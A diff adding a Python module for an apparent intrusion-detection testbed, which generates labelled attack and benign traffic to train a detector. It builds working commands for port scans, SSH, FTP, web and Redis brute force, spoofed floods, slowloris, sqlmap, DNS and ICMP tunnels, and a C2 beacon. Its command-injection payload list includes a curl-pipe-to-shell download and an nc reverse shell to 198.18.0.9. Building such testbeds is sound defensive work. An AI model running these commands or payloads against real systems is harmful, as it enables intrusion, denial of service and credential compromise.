@@ -1,0 +1,492 @@
+"""The wide profile's scenarios: each attack family from several real tools, settings drawn.
+
+A *slot* is one step of a wide run (``portscan``, ``ssh_bruteforce``, ...);
+it lists variants, each a ``Scenario`` with its own tool and label, and the
+runner draws one variant per slot per seed among those whose tools are
+installed. Arguments within a variant (timing template, port order, thread
+counts, rates, techniques, tamper scripts, spoofed sources) are drawn by the
+variant's builder from the step's generator, so every choice is in the
+manifest's command lines and the same seed makes it again.
+
+Labels keep CIC-IDS2017's names where the family has one; the others
+(``OS Fingerprinting``, ``Web Directory Brute Force``, ``ICMP Tunnel``,
+``C2 Beacon``, ``DoS UDP Flood``, ``DoS ICMP Flood``, ``Web Attack – Command
+Injection``, ``Redis Brute Force``) are listed in the testbed README's label
+table.
+"""
+
+from __future__ import annotations
+
+import base64
+from collections.abc import Callable
+
+from trafficlm.training.testbed.scenarios import (
+    BENIGN,
+    SCENARIOS,
+    USER_AGENTS,
+    Budget,
+    Commands,
+    Scenario,
+    _curl,
+    _think,
+)
+from trafficlm.training.testbed.server_programs import LOGIN_PASSWORD, LOGIN_USER, TUNNEL_ZONE
+from trafficlm.training.testbed.webapp import USER as WEB_USER
+
+DIRECTORY_WORDS = (
+    "admin", "backup", "config", "login", "old", "test", "dev", "api", "v1", "v2", "uploads",
+    "images", "static", "js", "css", "private", "secret", "db", "sql", "phpmyadmin", "wp-admin",
+    "wp-login.php", "server-status", ".git", ".env", "cgi-bin", "console", "dashboard", "debug",
+    "docs", "blog", "products", "support", "news", "team", "robots.txt", "sitemap.xml", "tmp",
+    "logs", "install", "setup", "portal", "shop", "cart", "checkout", "user", "users", "account",
+)
+INJECTIONS = (";cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "; ls -la /", "&& ping -c 1 "
+              "127.0.0.1", "|| curl http://198.18.0.9/x.sh | sh", "; nc -e /bin/sh 198.18.0.9 4444",
+              "%0Aid", "; sleep 5")
+
+
+def _scan_timing(b: Budget) -> list[str]:
+    order = [] if b.rng.random() < 0.5 else ["-r"]
+    return [f"-T{b.rng.choice((3, 4, 4, 5))}", "--max-retries", str(b.rng.choice((0, 1, 2))),
+            *order]
+
+
+def _ports(b: Budget) -> list[str]:
+    return b.rng.choice((["-p", "1-1000"], ["--top-ports", str(b.rng.choice((100, 500, 1000)))],
+                         ["-p", f"1-{b.rng.choice((1024, 2048, 4096))}"],
+                         ["-p", "3000-3999"]))  # the servers' firewalled range: filtered
+
+
+def nmap_scan(kind: str) -> Callable[[Budget], Commands]:
+    """An nmap raw or connect scan, through the host's stack (``--send-ip``) so its link applies."""
+    def build(b: Budget) -> Commands:
+        target = b.rng.choice((b.at(), b.at("ssh")))
+        return [["nmap", "-n", "-Pn", "--send-ip", kind, *_scan_timing(b), *_ports(b), target]]
+    return build
+
+
+def hping3_scan(b: Budget) -> Commands:
+    flags = b.rng.choice((["-S"], ["-F"], ["-A"], ["-S", "-F", "-P", "-U"]))
+    return [["hping3", *flags, "--scan", f"1-{b.rng.choice((500, 1000, 2000))}",
+             "-i", f"u{b.rng.choice((500, 1000, 3000))}", b.at()]]
+
+
+def nmap_service(b: Budget) -> Commands:
+    return [["nmap", "-n", "-Pn", "--send-ip", "-sV", "--version-intensity",
+             str(b.rng.choice((2, 5, 7))), *_scan_timing(b),
+             "-p", "21,22,53,80,123,161,443,1883,5201,6379", b.rng.choice((b.at(), b.at("ssh")))]]
+
+
+def nmap_aggressive(b: Budget) -> Commands:
+    return [["nmap", "-n", "-Pn", "--send-ip", "-A", *_scan_timing(b), "--top-ports",
+             str(b.rng.choice((20, 50, 100))), b.at()]]
+
+
+def nmap_os(b: Budget) -> Commands:
+    return [["nmap", "-n", "-Pn", "--send-ip", "-O", "--osscan-guess", *_scan_timing(b),
+             "--top-ports", str(b.rng.choice((20, 100))), b.rng.choice((b.at(), b.at("ssh")))]]
+
+
+def nmap_udp(b: Budget) -> Commands:
+    return [["nmap", "-n", "-Pn", "--send-ip", "-sU", *_scan_timing(b), "--top-ports",
+             str(b.rng.choice((100, 200, 1000))), b.rng.choice((b.at(), b.at("dns")))]]
+
+
+def _tasks(b: Budget) -> str:
+    return str(b.rng.choice((1, 2, 4, 8)))
+
+
+def hydra_login(service: str, module: str, *extra: str) -> Callable[[Budget], Commands]:
+    def build(b: Budget) -> Commands:
+        wait = ["-w", "1"] if module == "ssh" else []
+        return [["hydra", "-I", "-t", _tasks(b), *wait, *extra, "-l", LOGIN_USER,
+                 "-P", b.wordlist, f"{module}://{b.at(service)}"]]
+    return build
+
+
+def medusa_login(service: str, module: str) -> Callable[[Budget], Commands]:
+    return lambda b: [["medusa", "-h", b.at(service), "-u", LOGIN_USER, "-P", b.wordlist,
+                       "-M", module, "-t", _tasks(b), "-e", b.rng.choice(("n", "s", "ns"))]]
+
+
+def ncrack_login(service: str, port: int) -> Callable[[Budget], Commands]:
+    return lambda b: [["ncrack", "-T", str(b.rng.choice((2, 3, 4))), "--user", LOGIN_USER,
+                       "-P", b.wordlist, f"{b.at(service)}:{port}",
+                       "-g", f"cl={b.rng.choice((1, 2, 4))}"]]
+
+
+def patator_login(service: str, module: str, failure: str) -> Callable[[Budget], Commands]:
+    return lambda b: [["patator", module, f"host={b.at(service)}", f"user={LOGIN_USER}",
+                       "password=FILE0", f"0={b.wordlist}", "-t", _tasks(b),
+                       "-x", f"ignore:mesg={failure}"]]
+
+
+def hydra_form(b: Budget) -> Commands:
+    return [["hydra", "-I", "-t", _tasks(b), "-l", WEB_USER, "-P", b.wordlist, b.at(),
+             "http-post-form", "/login:username=^USER^&password=^PASS^:Login failed"]]
+
+
+def patator_form(b: Budget) -> Commands:
+    return [["patator", "http_fuzz", f"url={b.url()}/login", "method=POST",
+             f"body=username={WEB_USER}&password=FILE0", f"0={b.wordlist}", "-t", _tasks(b),
+             "-x", "ignore:fgrep=Login failed"]]
+
+
+def wfuzz_form(b: Budget) -> Commands:
+    return [["wfuzz", "-z", f"file,{b.wordlist}", "-t", _tasks(b), "-d",
+             f"username={WEB_USER}&password=FUZZ", "--hs", "Login failed", f"{b.url()}/login"]]
+
+
+def hydra_redis(b: Budget) -> Commands:
+    return [["hydra", "-I", "-t", _tasks(b), "-P", b.wordlist, f"redis://{b.at('redis')}"]]
+
+
+def _directory_list(b: Budget) -> str:
+    return "/usr/share/dirb/wordlists/common.txt" if b.rng.random() < 0.5 else b.wordlist + ".dirs"
+
+
+def gobuster(b: Budget) -> Commands:
+    return [["gobuster", "dir", "-q", "-u", b.url(b.rng.choice(("http", "https"))), "-k",
+             "-w", _directory_list(b), "-t", str(b.rng.choice((5, 10, 20))), "--timeout", "5s"]]
+
+
+def dirb(b: Budget) -> Commands:
+    return [["dirb", b.url(), _directory_list(b), "-S", "-r", "-z",
+             str(b.rng.choice((0, 10, 50)))]]
+
+
+def ffuf(b: Budget) -> Commands:
+    return [["ffuf", "-s", "-u", f"{b.url()}/FUZZ", "-w", _directory_list(b),
+             "-t", str(b.rng.choice((5, 20, 40))), "-mc", "200,301,302,403"]]
+
+
+def wfuzz_dirs(b: Budget) -> Commands:
+    return [["wfuzz", "-z", f"file,{_directory_list(b)}", "-t", str(b.rng.choice((5, 10, 20))),
+             "--hc", "404", f"{b.url()}/FUZZ"]]
+
+
+def _flood_sources(b: Budget) -> list[list[str]]:
+    """No spoofing, one forged source, or several (each forged source its own bounded burst)."""
+    choice = b.rng.random()
+    if choice < 0.35 or not b.spoofed:
+        return [[]]
+    if choice < 0.65:
+        return [["-a", b.rng.choice(b.spoofed)]]
+    return [["-a", source] for source in b.rng.sample(b.spoofed, min(6, len(b.spoofed)))]
+
+
+def hping3_flood(mode: list[str], ports: Callable[[Budget], list[str]]) -> Callable[[Budget],
+                                                                                    Commands]:
+    def build(b: Budget) -> Commands:
+        sources = _flood_sources(b)
+        interval = b.rng.choice((300, 500, 1000, 2000))
+        count = int(min(b.seconds, 10) * 1_000_000 / interval / len(sources))
+        return [["hping3", *mode, *ports(b), *source, "-i", f"u{interval}", "-c", str(count),
+                 b.at()] for source in sources]
+    return build
+
+
+def t50_flood(protocol: str, *extra: str) -> Callable[[Budget], Commands]:
+    def build(b: Budget) -> Commands:
+        source = b.rng.choice(b.spoofed) if b.spoofed else "198.18.0.1"
+        return [["t50", b.at(), "--threshold", str(b.rng.choice((2000, 5000, 10000))),
+                 "--protocol", protocol, *extra, "--saddr", source]]
+    return build
+
+
+def _http_port(b: Budget) -> list[str]:
+    return ["-p", "80"]
+
+
+def _random_port(b: Budget) -> list[str]:
+    return b.rng.choice((["-p", "53"], ["-p", "123"], ["-p", "++1024"], ["-p", "161"]))
+
+
+def siege(b: Budget) -> Commands:
+    return [["siege", "-b", "-q", "-c", str(b.rng.choice((25, 50, 100))),
+             "-t", f"{int(min(b.seconds, 20))}S", f"{b.url()}{b.rng.choice(b.pages)}"]]
+
+
+def wrk(b: Budget) -> Commands:
+    return [["wrk", "-t", "2", "-c", str(b.rng.choice((20, 50, 100))),
+             "-d", f"{int(min(b.seconds, 20))}s", f"{b.url()}{b.rng.choice(b.pages)}"]]
+
+
+def ab(b: Budget) -> Commands:
+    return [["ab", "-q", "-n", str(int(b.seconds * 200)), "-c", str(b.rng.choice((20, 50, 100))),
+             "-s", "5", f"{b.url()}{b.rng.choice(b.pages)}"]]
+
+
+def slowhttptest(mode: str) -> Callable[[Budget], Commands]:
+    def build(b: Budget) -> Commands:
+        connections = str(b.rng.choice((150, 300, 500)))
+        target = f"{b.url()}/download.bin" if mode == "-X" else f"{b.url()}/"
+        extra = ["-r", "100", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"] \
+            if mode == "-X" else ["-i", str(b.rng.choice((5, 10, 15))), "-r", "100",
+                                  "-x", str(b.rng.choice((10, 24, 40)))]
+        method = ["-t", "POST"] if mode == "-B" else ["-t", "GET"]
+        return [["slowhttptest", mode, "-c", connections, *extra, *method, "-p", "3",
+                 "-l", str(int(b.seconds)), "-u", target]]
+    return build
+
+
+def sqlmap(b: Budget) -> Commands:
+    technique = b.rng.choice(("B", "E", "U", "BEU", "BEUS"))
+    tamper = b.rng.choice(([], ["--tamper=space2comment"], ["--tamper=between,randomcase"],
+                           ["--tamper=charencode"]))
+    return [["sqlmap", "-u", f"{b.url()}/search?q=router", "--batch", "--flush-session",
+             f"--technique={technique}", f"--level={b.rng.choice((1, 2, 3))}", *tamper,
+             "--random-agent", f"--threads={b.rng.choice((1, 2, 4))}", "--timeout=5",
+             "--output-dir=/tmp/trafficlm-testbed-sqlmap", "--disable-coloring", "--banner",
+             "--tables"]]
+
+
+def command_injection(b: Budget) -> Commands:
+    commands = []
+    for _ in range(max(10, int(b.seconds * 2))):
+        target = f"{b.rng.choice(('router', 'tap', '127.0.0.1'))}{b.rng.choice(INJECTIONS)}"
+        commands += [_curl(b, f"{b.url()}/search", "-G", "--data-urlencode", f"q={target}"),
+                     _think(b, 0.05, 0.6)]
+    return commands
+
+
+ENCODERS = {
+    "base32": lambda data: base64.b32encode(data).decode().rstrip("=").lower(),
+    "base64": lambda data: base64.b64encode(data, b"-_").decode().rstrip("="),
+    "hex": lambda data: data.hex(),
+}
+
+
+def dns_encoder(b: Budget) -> Commands:
+    """A second tunnel encoder: base32/base64/hex labels, TXT/NULL/CNAME/A/MX, drawn rates."""
+    encoder = ENCODERS[b.rng.choice(sorted(ENCODERS))]
+    kind = b.rng.choice(("TXT", "NULL", "CNAME", "A", "MX"))
+    gap = b.rng.choice(("0.05", "0.1", "0.3"))
+    zone = b.rng.choice((TUNNEL_ZONE, f"x.{TUNNEL_ZONE}"))
+    commands = []
+    for i in range(max(20, int(b.seconds / float(gap)))):
+        chunk = encoder(b.rng.randbytes(b.rng.choice((20, 30, 45))))
+        labels = ".".join(chunk[j:j + 60] for j in range(0, len(chunk), 60))
+        tcp = ["+tcp"] if b.rng.random() < 0.1 else []
+        commands += [["dig", "+time=1", "+tries=1", *tcp, f"@{b.at('dns')}",
+                      f"{labels}.{i}.{zone}", kind], ["sleep", gap]]
+    return commands
+
+
+def beacon(b: Budget) -> Commands:
+    """Command-and-control stand-in: check-ins at a fixed period with jitter, small posts."""
+    period = b.rng.choice((1.0, 2.0, 3.0))
+    jitter = b.rng.choice((0.0, 0.1, 0.3))
+    scheme = b.rng.choice(("http", "https"))
+    path = b.rng.choice(("/api/v1/update", "/static/js/app.js", "/news/feed.html", "/cdn/pixel"))
+    agent = b.rng.choice(("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Microsoft-CryptoAPI/10.0",
+                          "python-requests/2.31.0"))
+    commands = []
+    for _ in range(max(5, int(b.seconds / period))):
+        body = base64.b64encode(b.rng.randbytes(b.rng.choice((16, 32, 64)))).decode()
+        commands += [["curl", "-s", "-k", "-o", "/dev/null", "--max-time", "3", "-A", agent,
+                      "-H", f"Cookie: session={body[:24]}", *(
+                          ["-d", f"id={body}"] if b.rng.random() < 0.3 else []),
+                      f"{b.url(scheme)}{path}"],
+                     ["sleep", f"{period * b.rng.uniform(1 - jitter, 1 + jitter):.2f}"]]
+    return commands
+
+
+def icmp_tunnel(b: Budget) -> Commands:
+    """ptunnel-ng: a TCP session (SSH) carried inside ICMP echo to the proxy on the SSH host."""
+    port = str(b.rng.randrange(8000, 9000))
+    ssh = (f"sshpass -p {LOGIN_PASSWORD} ssh -p {port} -o StrictHostKeyChecking=no "
+           f"-o UserKnownHostsFile=/dev/null -o ConnectTimeout=8 {LOGIN_USER}@127.0.0.1 "
+           f"'cat /etc/services; uname -a'")
+    return [["sh", "-c", f"ptunnel-ng -p{b.at('icmp_proxy')} -l{port} -r{b.at('ssh')} -R22 & "
+             "p=$!; "
+             f"trap 'kill $p' EXIT INT TERM; sleep 2; {ssh}; {ssh}; kill $p"]]
+
+
+def curl_variants(name: str) -> Callable[[Budget], Commands]:
+    return SCENARIOS[name].build
+
+
+def _variant(name: str, label: str, tools: tuple[str, ...], build, text: str) -> Scenario:
+    return Scenario(name, label, "attacker", tools, build, text)
+
+
+SSH, FTP, WEB_BF = "SSH-Patator", "FTP-Patator", "Web Attack \u2013 Brute Force"
+ATTACK_SLOTS: dict[str, tuple[Scenario, ...]] = {
+    "portscan": (*(_variant(f"nmap{k}", "PortScan", ("nmap",), nmap_scan(k), f"nmap {k}")
+                   for k in ("-sS", "-sT", "-sF", "-sX", "-sN", "-sA")),
+                 _variant("hping3_scan", "PortScan", ("hping3",), hping3_scan, "hping3 --scan")),
+    "version_scan": (
+        _variant("nmap-sV", "ServiceScan", ("nmap",), nmap_service, "nmap -sV"),
+        _variant("nmap-A", "ServiceScan", ("nmap",), nmap_aggressive, "nmap -A")),
+    "os_fingerprint": (
+        _variant("nmap-O", "OS Fingerprinting", ("nmap",), nmap_os, "nmap -O"),),
+    "udp_scan": (_variant("nmap-sU", "UDPScan", ("nmap",), nmap_udp, "nmap -sU"),),
+    "ssh_bruteforce": (
+        _variant("hydra_ssh", SSH, ("hydra",), hydra_login("ssh", "ssh"), "hydra ssh"),
+        _variant("medusa_ssh", SSH, ("medusa",), medusa_login("ssh", "ssh"), "medusa ssh"),
+        _variant("ncrack_ssh", SSH, ("ncrack",), ncrack_login("ssh", 22), "ncrack ssh"),
+        _variant("patator_ssh", SSH, ("patator",),
+                 patator_login("ssh", "ssh_login", "Authentication failed."), "patator ssh")),
+    "ftp_bruteforce": (
+        _variant("hydra_ftp", FTP, ("hydra",), hydra_login("ftp", "ftp"), "hydra ftp"),
+        _variant("medusa_ftp", FTP, ("medusa",), medusa_login("ftp", "ftp"), "medusa ftp"),
+        _variant("ncrack_ftp", FTP, ("ncrack",), ncrack_login("ftp", 21), "ncrack ftp"),
+        _variant("patator_ftp", FTP, ("patator",),
+                 patator_login("ftp", "ftp_login", "Login incorrect."), "patator ftp")),
+    "web_bruteforce": (
+        _variant("hydra_form", WEB_BF, ("hydra",), hydra_form, "hydra http-post-form"),
+        _variant("patator_form", WEB_BF, ("patator",), patator_form, "patator http_fuzz"),
+        _variant("wfuzz_form", WEB_BF, ("wfuzz",), wfuzz_form, "wfuzz POST")),
+    "redis_bruteforce": (
+        _variant("hydra_redis", "Redis Brute Force", ("hydra",), hydra_redis, "hydra redis"),),
+    "web_dirscan": tuple(_variant(n, "Web Directory Brute Force", (n,), f, n) for n, f in (
+        ("gobuster", gobuster), ("dirb", dirb), ("ffuf", ffuf), ("wfuzz", wfuzz_dirs))),
+    "syn_flood": (
+        _variant("hping3_syn", "DoS Syn Flood", ("hping3",),
+                 hping3_flood(["-S"], _http_port), "hping3 -S"),
+        _variant("t50_syn", "DoS Syn Flood", ("t50",),
+                 t50_flood("TCP", "--syn", "--dport", "80"), "t50 TCP SYN")),
+    "udp_flood": (
+        _variant("hping3_udp", "DoS UDP Flood", ("hping3",),
+                 hping3_flood(["--udp"], _random_port), "hping3 --udp"),
+        _variant("t50_udp", "DoS UDP Flood", ("t50",), t50_flood("UDP", "--dport", "53"),
+                 "t50 UDP")),
+    "icmp_flood": (
+        _variant("hping3_icmp", "DoS ICMP Flood", ("hping3",),
+                 hping3_flood(["--icmp"], lambda b: []), "hping3 --icmp"),
+        _variant("t50_icmp", "DoS ICMP Flood", ("t50",), t50_flood("ICMP"), "t50 ICMP")),
+    "http_flood": (
+        _variant("ab", "DoS HTTP Flood", ("ab",), ab, "ApacheBench"),
+        _variant("siege", "DoS HTTP Flood", ("siege",), siege, "siege -b"),
+        _variant("wrk", "DoS HTTP Flood", ("wrk",), wrk, "wrk")),
+    "slowloris": (_variant("slowloris", "DoS Slowloris", ("slowhttptest",),
+                           slowhttptest("-H"), "slowhttptest -H"),),
+    "slowhttp": (
+        _variant("slow_read", "DoS Slowhttptest", ("slowhttptest",), slowhttptest("-X"),
+                 "slowhttptest -X"),
+        _variant("slow_body", "DoS Slowhttptest", ("slowhttptest",), slowhttptest("-B"),
+                 "slowhttptest -B")),
+    "sql_injection": (_variant("sqlmap", "Web Attack \u2013 Sql Injection", ("sqlmap",), sqlmap,
+                               "sqlmap, technique and tamper drawn"),),
+    "xss": (_variant("curl_xss", "Web Attack \u2013 XSS", ("curl",), curl_variants("xss"),
+                     "reflected XSS payloads"),),
+    "path_traversal": (_variant("curl_traversal", "Web Attack \u2013 Path Traversal", ("curl",),
+                                curl_variants("path_traversal"), "../ variants"),),
+    "command_injection": (_variant("curl_injection", "Web Attack \u2013 Command Injection",
+                                   ("curl",), command_injection, "shell metacharacters"),),
+    "dns_tunnel": (
+        _variant("dig_base32", "DNS Tunnel", ("dig",), curl_variants("dns_tunnel"), "base32 dig"),
+        _variant("dig_encoders", "DNS Tunnel", ("dig",), dns_encoder, "encoder and type drawn")),
+    "icmp_tunnel": (_variant("ptunnel-ng", "ICMP Tunnel", ("ptunnel-ng", "sshpass"), icmp_tunnel,
+                             "SSH inside ICMP echo"),),
+    "c2_beacon": (_variant("curl_beacon", "C2 Beacon", ("curl",), beacon,
+                           "periodic check-ins with jitter"),),
+}
+MIXED_SLOTS = ("portscan", "ssh_bruteforce", "sql_injection", "slowloris", "dns_tunnel",
+               "web_dirscan", "c2_beacon")
+
+
+def browse_with_assets(b: Budget) -> Commands:
+    """Page views that fetch each page's assets over one connection, HTTP/1.1 or HTTP/2."""
+    commands = []
+    for _ in range(max(3, int(b.seconds / 2))):
+        page = b.rng.choice(b.pages)
+        scheme = b.rng.choice(("http", "https"))
+        version = ["--http2"] if scheme == "https" and b.rng.random() < 0.6 else ["--http1.1"]
+        urls = [f"{b.url(scheme)}{path}" for path in (page, *b.assets.get(page, ()))]
+        outputs = [x for u in urls for x in ("-o", "/dev/null", u)]
+        commands += [["curl", "-s", "-k", "--max-time", "10", *version, "-A",
+                      b.rng.choice(USER_AGENTS), *outputs],
+                     _think(b, 0.5, 3.0)]
+    return commands
+
+
+def wget_mirror(b: Budget) -> Commands:
+    scheme = b.rng.choice(("http", "https"))
+    return [["wget", "-q", "-r", "-l", str(b.rng.choice((1, 2))), "-np", "--delete-after",
+             "-e", "robots=off", "--no-check-certificate", "--quota=20m",
+             f"--wait={b.rng.choice((0, 0.2, 0.5))}", "-U", b.rng.choice(USER_AGENTS),
+             f"{b.url(scheme)}{b.rng.choice(b.pages)}"]]
+
+
+def redis_polling(b: Budget) -> Commands:
+    cli = ["redis-cli", "-h", b.at("redis"), "-a", LOGIN_PASSWORD, "--no-auth-warning"]
+    commands = []
+    for i in range(max(3, int(b.seconds))):
+        commands += [[*cli, *b.rng.choice((["SET", f"job:{i}", "done"], ["GET", "job:1"],
+                                           ["INCR", "hits"], ["INFO", "memory"],
+                                           ["LPUSH", "queue", f"task{i}"]))],
+                     _think(b, 0.2, 1.5)]
+    return commands
+
+
+def snmp_polling(b: Budget) -> Commands:
+    commands = []
+    for _ in range(max(2, int(b.seconds / 3))):
+        commands += [b.rng.choice((
+            ["snmpget", "-v2c", "-c", "public", "-t", "2", "-r", "0", b.at("snmp"),
+             "SNMPv2-MIB::sysUpTime.0", "SNMPv2-MIB::sysDescr.0"],
+            ["snmpwalk", "-v2c", "-c", "public", "-t", "2", "-r", "0", b.at("snmp"), "system"]
+        )), _think(b, 1.0, 3.0)]
+    return commands
+
+
+def ntp_queries(b: Budget) -> Commands:
+    return [cmd for _ in range(max(1, int(b.seconds / 8))) for cmd in (
+        ["chronyd", "-Q", "-t", "6", "-f", "/dev/null", f"server {b.at('ntp')} iburst"],
+        _think(b, 1.0, 4.0))]
+
+
+def ftp_modes(b: Budget) -> Commands:
+    login = f"{LOGIN_USER}:{LOGIN_PASSWORD}"
+    commands = []
+    for i in range(max(2, int(b.seconds / 3))):
+        mode = ["--ftp-port", "-"] if b.rng.random() < 0.4 else ["--ftp-pasv"]
+        if b.rng.random() < 0.3:
+            commands.append(["curl", "-s", "--max-time", "10", *mode, "-T", "/etc/services",
+                             f"ftp://{login}@{b.at('ftp')}/upload{i}.txt"])
+        else:
+            commands.append(["curl", "-s", "--max-time", "10", *mode, "-o", "/dev/null",
+                             f"ftp://{login}@{b.at('ftp')}/report{b.rng.randrange(5)}.txt"])
+        commands.append(_think(b, 0.3, 2))
+    return commands
+
+
+def ssh_interactive(b: Budget) -> Commands:
+    """A long-lived SSH session with typed commands, pauses and keep-alives."""
+    typed = "; ".join(f"{cmd}; sleep {b.rng.uniform(0.5, 3):.1f}" for cmd in b.rng.sample(
+        ("ls -la", "df -h", "uptime", "ps aux | head", "cat /etc/hostname", "free -m", "w"), 4))
+    return [["sshpass", "-p", LOGIN_PASSWORD, "ssh", "-o", "StrictHostKeyChecking=no",
+             "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=8",
+             "-o", f"ServerAliveInterval={b.rng.choice((1, 2, 5))}", "-tt",
+             f"{LOGIN_USER}@{b.at('ssh')}", typed]]
+
+
+def dns_resolver_mix(b: Budget) -> Commands:
+    names = [f"{host}.testbed.lan" for host in ("www", "ftp", "mail", "ns", "intranet", "vpn")]
+    commands = []
+    for _ in range(max(4, int(b.seconds))):
+        tcp = ["+tcp"] if b.rng.random() < 0.15 else []
+        commands += [["dig", "+time=2", "+tries=1", *tcp, f"@{b.at('dns')}",
+                      b.rng.choice(names), b.rng.choice(("A", "AAAA", "MX", "TXT", "SOA", "NS"))],
+                     _think(b, 0.2, 2.5)]
+    return commands
+
+
+def _benign(name: str, tools: tuple[str, ...], build, text: str) -> Scenario:
+    return Scenario(name, BENIGN, "client", tools, build, text)
+
+
+WIDE_BENIGN: tuple[Scenario, ...] = (
+    *(s for s in SCENARIOS.values() if s.label == BENIGN),
+    _benign("browse_assets", ("curl",), browse_with_assets, "pages with their assets, h1/h2"),
+    _benign("wget_mirror", ("wget",), wget_mirror, "recursive wget of part of the site"),
+    _benign("redis_polling", ("redis-cli",), redis_polling, "a job queue's Redis commands"),
+    _benign("snmp_polling", ("snmpget", "snmpwalk"), snmp_polling, "monitoring-style SNMP polls"),
+    _benign("ntp_queries", ("chronyd",), ntp_queries, "NTP time queries"),
+    _benign("ftp_modes", ("curl",), ftp_modes, "FTP transfers, active and passive"),
+    _benign("ssh_interactive", ("ssh", "sshpass"), ssh_interactive,
+            "a long interactive SSH session with keep-alives"),
+    _benign("dns_resolver_mix", ("dig",), dns_resolver_mix, "many names and types, UDP and TCP"),
+)
